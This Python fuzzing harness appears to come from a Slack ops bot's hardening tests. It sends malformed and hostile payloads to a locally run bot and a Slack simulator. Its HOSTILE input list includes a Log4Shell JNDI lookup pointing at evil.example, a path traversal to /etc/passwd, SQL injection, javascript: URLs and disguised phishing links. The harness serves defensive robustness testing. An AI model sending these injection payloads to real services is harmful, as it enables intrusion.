"""Fuzzing the bot's front doors: every payload shape it accepts, structurally valid but hostile, or broken.

One strategy per shape (`SHAPES`): slash command form bodies, `block_actions` and `view_submission`
interaction payloads, `app_home_opened` Events API deliveries, and the Alertmanager webhook. Each starts
from the payload Slack (or Alertmanager) really sends, as built by the Slack simulator's own builders, puts
hostile text into the fields a person controls (`<!channel>`, disguised links, control characters, lone
surrogates, huge or empty values, command lines), and then damages the structure: fields deleted, replaced
by any JSON, wrapped in a list or an object, the whole payload swapped for a scalar.

`Fuzzer.send` posts one input to the running web app exactly as its sender would (signed with the signing
secret, or with the webhook's bearer token), waits until the work after the ack has finished, and holds the
bot to four things: no 5xx; no traceback in any log line; no live broadcast mention or disguised link in
anything the bot sent to Slack; `/healthz` still answers. `Fuzzer.still_answers` then checks that a normal
`/cf help` gets its answer. `tests/hardening/test_fuzz.py` runs a short round per shape in the suite;
`python -m bench fuzz` runs a long one and records the counts in bench/RESULTS.md.
"""

from __future__ import annotations

import asyncio
import copy
import json
import logging
import os
import time
import urllib.parse
from collections import Counter, defaultdict
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import aiohttp
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from base.vocabulary import SEVERITIES
from bot.blocks import AGAIN, APPROVE, DENY, UNDO
from incidents.views import DECLARE_CALLBACK, RUN, declare_modal
from tests.hardening.test_hardening import LIVE
from tests.harness import ADMIN, APPROVER, CHANNEL, OPERATOR, SIGNING_SECRET, VIEWER, BotHarness
from tests.incident_support import ALERT_TOKEN, alerts_url, am_alert, am_payload, start
from tests.slack_sim import SlackSim, block_actions_body, new_trigger_id, sign, slash_body, view_submission_body

# A bot for fuzzing: the incidents domain on (alerts endpoint, declare modal, Home tab), and the per-user
# rate limit out of the way so that every input reaches the code behind it (the limit has its own tests).
FUZZ_CONFIG: dict[str, Any] = {"limits": {"commands_per_minute": 1_000_000}}

# Placeholders a strategy puts where the value must be fresh for each request (filled in by `Fuzzer`).
RESPONSE_URL = "@@response_url@@"
TRIGGER_ID = "@@trigger_id@@"
EVENT_ID = "@@event_id@@"

USERS = [OPERATOR, APPROVER, ADMIN, VIEWER]
HOSTILE = [
    "<!channel>", "<!here>", "<!everyone>", "<!here|here>", "<!subteam^S0ONCALL|@oncall>", "<!date^0^{date}|x>",
    "<https://evil.example/login|click here>", "<http://evil.example|x>", "&lt;!here&gt;", "&amp;lt;!channel&amp;gt;",
    "`<!channel>`", "```<!everyone>```", "x` <!channel> `", "<@U0ADMIN>", "<#C0INCIDENT|incident>", "*_~`>",
    "\u202e<!here>", "\u200b", "\x00", "\x1b[31m", "\r\n\r\n", "\t", "%00", "%zz", "+", "&", "=", "&&==",
    "payload=", "payload={}", "{}", "[]", "null", "true", "0", "-1", "1e309", "NaN", "99999999999999999999",
    "../../etc/passwd", "${jndi:ldap://evil.example/a}", "' OR 1=1 --", "'", '"', "\\", "--", "-A",
    "a" * 3000, "é" * 500, "😀" * 200, "",
]
COMMAND_LINES = [
    "help", "help scale", "pods", "audit", "audit --since 1h", "incident list", "incident declare",
    "incident declare sev2 <!channel> down", "incident update <!here> it is back", "oncall", "status",
    "scale graphql-api 10", "scale graphql-api <!everyone>", "logs graphql-api --grep '<!channel>'",
    "undo 1", "nosuchcommand <https://evil.example|x>", "page primary <!here>",
]
SLASH_FIELDS = ["token", "team_id", "team_domain", "channel_id", "channel_name", "user_id", "user_name", "command",
                "text", "api_app_id", "is_enterprise_install", "response_url", "trigger_id"]
ACTION_IDS = [APPROVE, DENY, UNDO, AGAIN, f"{RUN}:0", f"{RUN}:7", RUN, "cf_unknown"]


def text() -> st.SearchStrategy[str]:
    """Text a person (or an attacker) could put in any field."""
    return st.one_of(
        st.sampled_from(HOSTILE),
        st.text(max_size=60),
        st.lists(st.sampled_from(HOSTILE + COMMAND_LINES), min_size=1, max_size=4).map(" ".join),
    )


def json_values() -> st.SearchStrategy[Any]:
    scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), text())
    return st.recursive(scalars, lambda inner: st.lists(inner, max_size=3)
                        | st.dictionaries(st.one_of(st.sampled_from(["id", "type", "value", "user"]), text()),
                                          inner, max_size=3), max_leaves=8)


def user_ids() -> st.SearchStrategy[str]:
    return st.one_of(st.sampled_from(USERS), text())


def channel_ids() -> st.SearchStrategy[str]:
    return st.one_of(st.just(CHANNEL), st.sampled_from(["C0OTHER", "D0DIRECT", "G0PRIVATE"]), text())


def response_urls() -> st.SearchStrategy[str]:
    """Mostly the simulator's own (fresh per request); otherwise junk that is no URL to anywhere real."""
    junk = ["", "not a url", "ftp://x", "http://", "javascript:alert(1)"]
    return st.sampled_from([RESPONSE_URL] * 15 + junk)  # three in four fresh and real


# --- structural damage ----------------------------------------------------------------------------------


def _paths(value: Any, path: tuple[Any, ...] = (), depth: int = 0) -> list[tuple[Any, ...]]:
    found = [path]
    if depth >= 5:
        return found
    if isinstance(value, dict):
        for key, child in value.items():
            found += _paths(child, (*path, key), depth + 1)
    elif isinstance(value, list):
        for index, child in enumerate(value):
            found += _paths(child, (*path, index), depth + 1)
    return found


def _set(root: Any, path: tuple[Any, ...], new: Any, delete: bool = False) -> Any:
    if not path:
        return new
    parent = root
    for key in path[:-1]:
        parent = parent[key]
    if delete:
        del parent[path[-1]]
    else:
        parent[path[-1]] = new
    return root


def _get(root: Any, path: tuple[Any, ...]) -> Any:
    for key in path:
        root = root[key]
    return root


@st.composite
def damaged(draw: st.DrawFn, base: Any, max_edits: int = 3) -> Any:
    """`base` with up to `max_edits` structural edits at random places (the root included)."""
    value = copy.deepcopy(base)
    for _ in range(draw(st.sampled_from([0, 0, 0, *range(1, max_edits + 1)]))):  # about half left whole
        path = draw(st.sampled_from(_paths(value)))
        kind = draw(st.sampled_from(["replace", "delete", "hostile", "list", "object", "null", "empty"]))
        if kind == "delete" and path:
            value = _set(value, path, None, delete=True)
        elif kind == "list":
            value = _set(value, path, [_get(value, path)])
        elif kind == "object":
            value = _set(value, path, {"id": _get(value, path)})
        elif kind == "hostile":
            value = _set(value, path, draw(text()))
        elif kind == "null":
            value = _set(value, path, None)
        elif kind == "empty":
            value = _set(value, path, draw(st.sampled_from(["", [], {}])))
        else:
            value = _set(value, path, draw(json_values()))
    return value


# --- the shapes -----------------------------------------------------------------------------------------


class Draft:
    """One input before it is sent: `body` (form pairs or JSON-able) and how to send it."""

    def __init__(self, shape: str, body: Any, *, form: bool, content_type: str | None, suffix: str = "") -> None:
        self.shape = shape
        self.body = body
        self.form = form
        self.content_type = content_type
        self.suffix = suffix

    def __repr__(self) -> str:
        return f"Draft({self.shape!r}, {self.body!r}, form={self.form}, content_type={self.content_type!r}, " \
               f"suffix={self.suffix!r})"


FORM = "application/x-www-form-urlencoded"
content_types = st.sampled_from([FORM, FORM, FORM, "application/json", "text/plain", None])
junk_suffixes = st.one_of(st.just(""), st.just(""), st.just(""), st.sampled_from(["&", "&&=", "%", "&payload=",
                                                                                   "&text=%FF", "=&="]))


@st.composite
def slash_commands(draw: st.DrawFn) -> Draft:
    fields = dict(urllib.parse.parse_qsl(slash_body("help", OPERATOR, CHANNEL, "/cf"), keep_blank_values=True))
    fields.update(text=draw(st.one_of(st.sampled_from(COMMAND_LINES), text())), user_id=draw(user_ids()),
                  channel_id=draw(channel_ids()), response_url=draw(response_urls()),
                  trigger_id=draw(st.one_of(st.just(TRIGGER_ID), text())),
                  command=draw(st.sampled_from(["/cf"] * 7 + ["/other", "cf", ""])))
    fields = draw(damaged(fields, max_edits=2))
    pairs = list(fields.items()) if isinstance(fields, dict) else [("text", fields)]
    extra = draw(st.lists(st.tuples(st.sampled_from([*SLASH_FIELDS, "payload", "type", "ssl_check", "challenge"]),
                                    text()), max_size=2))
    return Draft("slash command", pairs + extra, form=True, content_type=draw(content_types),
                 suffix=draw(junk_suffixes))


def _buttons_message() -> dict[str, Any]:
    elements = [{"type": "button", "action_id": action_id, "value": "1",
                 "text": {"type": "plain_text", "text": action_id}} for action_id in ACTION_IDS]
    return {"ts": "1700000000.000100", "text": "request", "blocks": [{"type": "actions", "block_id": "b",
                                                                      "elements": elements}]}


@st.composite
def block_actions(draw: st.DrawFn) -> Draft:
    known = draw(st.sampled_from([True, True, True, False]))  # mostly an action a listener takes
    action_id = draw(st.sampled_from(ACTION_IDS) if known else text())
    value = draw(st.one_of(st.sampled_from(COMMAND_LINES), st.sampled_from(["1", "A-1", "0", "-1", "abc"]), text()))
    raw = block_actions_body(draw(user_ids()), draw(channel_ids()), _buttons_message(), action_id, value,
                             response_url=RESPONSE_URL, trigger_id=TRIGGER_ID,
                             is_ephemeral=draw(st.booleans()))
    payload = json.loads(urllib.parse.parse_qs(raw)["payload"][0])
    payload["response_url"] = draw(response_urls())
    return Draft("block_actions", draw(damaged(payload)), form=True, content_type=draw(content_types))


@st.composite
def view_submissions(draw: st.DrawFn) -> Draft:
    view = {**declare_modal(draw(channel_ids())), "id": "V0DECLARE"}
    values = {
        "title": {"value": draw(text())},
        "severity": {"value": {"type": "static_select",
                               "selected_option": {"value": draw(st.one_of(st.sampled_from(SEVERITIES), text()))}}},
        "kind": {"value": {"type": "static_select",
                           "selected_option": {"value": draw(st.one_of(st.sampled_from(["other", "outage"]),
                                                                       text()))}}},
    }
    callback = draw(st.sampled_from([DECLARE_CALLBACK] * 4 + ["other", ""]))
    raw = view_submission_body(draw(st.sampled_from(USERS)), view, values, callback_id=callback)
    payload = json.loads(urllib.parse.parse_qs(raw)["payload"][0])
    payload["user"]["id"] = draw(user_ids())
    return Draft("view_submission", draw(damaged(payload)), form=True, content_type=draw(content_types))


@st.composite
def app_home_opened(draw: st.DrawFn) -> Draft:
    event: dict[str, Any] = {"type": "app_home_opened", "user": draw(user_ids()), "channel": draw(channel_ids()),
                             "tab": draw(st.one_of(st.sampled_from(["home", "messages"]), text())),
                             "event_ts": f"{time.time():.6f}"}
    if draw(st.booleans()):
        event["view"] = {"id": "V0HOME", "type": "home", "blocks": [], "private_metadata": draw(text())}
    body = {"token": "simVerificationToken0", "team_id": "T0CANDLE", "api_app_id": "A0CFBOT", "event": event,
            "type": draw(st.sampled_from(["event_callback"] * 6 + ["url_verification", "app_rate_limited", "?"])),
            "event_id": EVENT_ID, "event_time": int(time.time()),
            "authorizations": [{"team_id": "T0CANDLE", "user_id": "U0CFBOT", "is_bot": True}]}
    if body["type"] == "?":
        body["type"] = draw(text())
    if body["type"] == "url_verification":
        body["challenge"] = draw(text())
    return Draft("app_home_opened", draw(damaged(body)), form=False,
                 content_type=draw(st.sampled_from(["application/json", "application/json", FORM, None])))


@st.composite
def alertmanager_webhooks(draw: st.DrawFn) -> Draft:
    alerts = []
    for _ in range(draw(st.integers(0, 4))):
        alert = am_alert(draw(st.one_of(st.sampled_from(["PodCrashLooping", "HighErrorRate", "DatabaseDown"]),
                                        text())),
                         status=draw(st.sampled_from(["firing"] * 6 + ["resolved"] * 3 + ["pending"])),
                         severity=draw(st.one_of(st.sampled_from(["critical", "warning", "info"]), text())),
                         fingerprint=draw(st.one_of(st.text(alphabet="0123456789abcdef", min_size=16, max_size=16),
                                                    text())),
                         starts=draw(st.sampled_from(["2026-01-10T10:00:00Z"] * 16 + [
                             "0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "yesterday", ""])),
                         labels=draw(st.dictionaries(text(), text(), max_size=3)),
                         summary=draw(text()))
        alert["generatorURL"] = draw(st.one_of(st.just(alert["generatorURL"]), text(),
                                               st.just("javascript:alert(1)")))
        alert["annotations"]["description"] = draw(text())
        alerts.append(alert)
    payload = am_payload(*alerts) if alerts else {**am_payload(), "alerts": []}
    payload["groupKey"] = draw(st.one_of(st.just(payload["groupKey"]), text()))
    payload["version"] = draw(st.sampled_from(["4"] * 8 + ["3", 4]))
    return Draft("alertmanager webhook", draw(damaged(payload)), form=False,
                 content_type=draw(st.sampled_from(["application/json", "application/json", "text/plain"])))


SHAPES: dict[str, Callable[[], st.SearchStrategy[Draft]]] = {
    "slash command": slash_commands,
    "block_actions": block_actions,
    "view_submission": view_submissions,
    "app_home_opened": app_home_opened,
    "alertmanager webhook": alertmanager_webhooks,
}


# --- sending and judging --------------------------------------------------------------------------------


class TracebackCatcher(logging.Handler):
    """Every log record, from any logger, that carries a traceback."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.found: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        message = record.getMessage()
        if record.exc_info or record.stack_info or "Traceback (most recent call last)" in message:
            self.found.append(f"{record.name}: {message}\n{self.format(record)}"[:3000])

    def __enter__(self) -> TracebackCatcher:
        logging.getLogger().addHandler(self)
        return self

    def __exit__(self, *_exc: object) -> None:
        logging.getLogger().removeHandler(self)


# Arguments Slack never renders as text: ids and machine values (a user id of "<!channel>" is a refused id,
# not a broadcast). Everything else a call carries (text, blocks, titles, topics, names) is judged.
NOT_SHOWN = frozenset({"user", "user_id", "users", "channel", "channel_id", "value", "action_id", "block_id",
                       "callback_id", "private_metadata", "external_id", "ts", "thread_ts", "trigger_id", "view_id",
                       "hash", "token"})


def shown_strings(value: Any) -> Iterator[str]:
    """Every string in a Web API call's arguments that Slack could show to people."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, child in value.items():
            if key not in NOT_SHOWN:
                yield from shown_strings(child)
    elif isinstance(value, list):
        for child in value:
            yield from shown_strings(child)


def _fill(value: Any, bot: BotHarness, channel: str) -> Any:
    if isinstance(value, dict):
        return {k: _fill(v, bot, channel) for k, v in value.items()}
    if isinstance(value, list):
        return [_fill(v, bot, channel) for v in value]
    if isinstance(value, tuple):
        return tuple(_fill(v, bot, channel) for v in value)
    if value == RESPONSE_URL:
        return bot.sim.new_response_url(channel, None, "1700000000.000100")
    if value == TRIGGER_ID:
        return new_trigger_id()
    if value == EVENT_ID:
        return f"Ev{new_trigger_id().replace('.', '')[:20]}"
    return value


def _form_value(value: Any) -> str:
    return value if isinstance(value, str) else json.dumps(value)


def encode(draft: Draft, bot: BotHarness) -> bytes:
    body = _fill(draft.body, bot, CHANNEL)
    if draft.shape == "slash command":
        text_body = urllib.parse.urlencode([(_form_value(k), _form_value(v)) for k, v in body])
    elif draft.form:
        text_body = "payload=" + urllib.parse.quote(json.dumps(body))
    else:
        text_body = json.dumps(body)
    return (text_body + draft.suffix).encode("utf-8", "surrogatepass")


class Fuzzer:
    """Sends drafts to a running bot and judges each outcome; counts what it tried."""

    def __init__(self, bot: BotHarness, catcher: TracebackCatcher) -> None:
        self.bot = bot
        self.catcher = catcher
        self.tried: Counter[str] = Counter()
        self.statuses: defaultdict[str, Counter[int]] = defaultdict(Counter)
        self.health_url = bot.app_url.replace("/slack/events", "/healthz")

    async def send(self, draft: Draft) -> int:
        bot = self.bot
        body = encode(draft, bot)
        alerts = draft.shape == "alertmanager webhook"
        headers = {"Authorization": f"Bearer {ALERT_TOKEN}"} if alerts else sign(
            body.decode("utf-8", "surrogatepass"), SIGNING_SECRET)
        if draft.content_type:
            headers["Content-Type"] = draft.content_type
        calls, seen = len(bot.sim.calls), len(self.catcher.found)
        url = alerts_url(bot) if alerts else bot.app_url
        async with aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(total=15)) as session:
            async with session.post(url, data=body, headers=headers, skip_auto_headers=["Content-Type"]) as resp:
                status, answer = resp.status, await resp.text()
            await bot.settle()
            async with session.get(self.health_url) as health:
                healthy = health.status
        self.tried[draft.shape] += 1
        self.statuses[draft.shape][status] += 1
        assert self.catcher.found[seen:] == [], (body[:500], self.catcher.found[seen:])
        assert status < 500, (status, answer[:300], body[:500])
        live = [f"{c.method}: {m.group(0)}" for c in bot.sim.calls[calls:]
                for shown in shown_strings(c.args) for m in LIVE.finditer(shown)]
        assert live == [], (body[:500], live)
        assert healthy == 200
        return status

    async def still_answers(self) -> None:
        """After all that, a normal command still gets its answer."""
        bot = self.bot
        before = len(bot.private_texts(VIEWER))
        delivery = await bot.slash("help", user=VIEWER)
        assert delivery.status == 200, delivery
        assert any("Triage" in t for t in bot.private_texts(VIEWER)[before:]), bot.sim.dump_calls()
        assert self.catcher.found == [], self.catcher.found[:3]


# --- a round: a bot, the shapes, the counts -------------------------------------------------------------


@contextmanager
def _alert_token() -> Iterator[None]:
    """The webhook reads its token from the environment when the app is built."""
    saved = os.environ.get("CF_ALERTS_TOKEN")
    os.environ["CF_ALERTS_TOKEN"] = ALERT_TOKEN
    try:
        yield
    finally:
        if saved is None:
            os.environ.pop("CF_ALERTS_TOKEN", None)
        else:
            os.environ["CF_ALERTS_TOKEN"] = saved


def fuzz(shapes: Iterable[str], examples: int, workdir: Path,
         report: Callable[[str, Fuzzer], None] | None = None) -> Fuzzer:
    """Start a bot (SQLite store in `workdir`) and the Slack simulator on a loop of their own, try up to
    `examples` inputs of each shape against them, then check a normal command still answers. Synchronous:
    hypothesis drives each example through `loop.run_until_complete`. A failing input raises (shrunk)."""
    loop = asyncio.new_event_loop()
    sim = SlackSim(bot_token="xoxb-test", team_id="T0CANDLE", bot_user_id="U0CFBOT")
    bot: BotHarness | None = None
    try:
        with _alert_token(), TracebackCatcher() as catcher:
            loop.run_until_complete(sim.start())
            bot = loop.run_until_complete(start(sim, f"sqlite:///{workdir / 'cf-fuzz.db'}", config=FUZZ_CONFIG))
            fuzzer = Fuzzer(bot, catcher)
            for shape in shapes:
                _run_shape(loop, fuzzer, shape, examples)
                loop.run_until_complete(fuzzer.still_answers())
                if report is not None:
                    report(shape, fuzzer)
            return fuzzer
    finally:
        if bot is not None:
            loop.run_until_complete(bot.close())
        loop.run_until_complete(sim.stop())
        loop.run_until_complete(loop.shutdown_asyncgens())
        loop.close()


def _run_shape(loop: asyncio.AbstractEventLoop, fuzzer: Fuzzer, shape: str, examples: int) -> None:
    @given(draft=SHAPES[shape]())
    @settings(max_examples=examples, deadline=None, database=None,
              suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much])
    def one(draft: Draft) -> None:
        loop.run_until_complete(fuzzer.send(draft))

    one()
